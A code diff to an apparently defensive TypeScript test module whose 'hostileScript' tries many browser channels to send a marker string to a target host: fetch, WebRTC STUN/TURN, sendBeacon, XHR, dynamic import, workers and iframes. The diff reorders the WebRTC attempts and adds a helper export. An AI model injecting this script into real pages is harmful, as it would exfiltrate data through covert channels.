@@ -24,6 +24,20 @@ async function hostileScript(target: string): Promise<void> {
       fetch(`${protocol}://${target}/?geheim`, { mode: 'no-cors' }),
     );
   }
+  for (const url of [
+    `stun:${target}:3478`,
+    `turn:${target}:3478?transport=udp`,
+    `turn:${target}:3478?transport=tcp`,
+  ]) {
+    await attempt(`WebRTC ${url}`, async () => {
+      const connection = new RTCPeerConnection({
+        iceServers: [{ urls: url, username: 'geheim', credential: 'geheim' }],
+      });
+      connection.createDataChannel('geheim');
+      await connection.setLocalDescription(await connection.createOffer());
+      await new Promise((resolve) => setTimeout(resolve, 700));
+    });
+  }
   await attempt('beacon', () => navigator.sendBeacon(`http://${target}/beacon`, 'geheim'));
   await attempt('XMLHttpRequest', () => {
     const request = new XMLHttpRequest();
@@ -57,20 +71,6 @@ async function hostileScript(target: string): Promise<void> {
   await attempt('import', () => import(/* @vite-ignore */ `http://${target}/module.js`));
   await attempt('worker', () => new Worker(`data:text/javascript,fetch('http://${target}/')`));
 
-  for (const url of [
-    `stun:${target}:3478`,
-    `turn:${target}:3478?transport=udp`,
-    `turn:${target}:3478?transport=tcp`,
-  ]) {
-    await attempt(`WebRTC ${url}`, async () => {
-      const connection = new RTCPeerConnection({
-        iceServers: [{ urls: url, username: 'geheim', credential: 'geheim' }],
-      });
-      connection.createDataChannel('geheim');
-      await connection.setLocalDescription(await connection.createOffer());
-      await new Promise((resolve) => setTimeout(resolve, 700));
-    });
-  }
   await attempt('frame', () => {
     const frame = document.createElement('iframe');
     frame.src = `http://${target}/frame`;
@@ -93,4 +93,6 @@ export function hostileCode(target: string): string {
   return `(() => { const __name = (value) => value; void (${hostileScript.toString()})(${JSON.stringify(target)}); })()`;
 }
 
+/** The last attempt, and the last of those that show what an open browser sends. */
 export const lastAttempt = 'navigation';
+export const lastTelling = (target: string) => `WebRTC turn:${target}:3478?transport=tcp`;
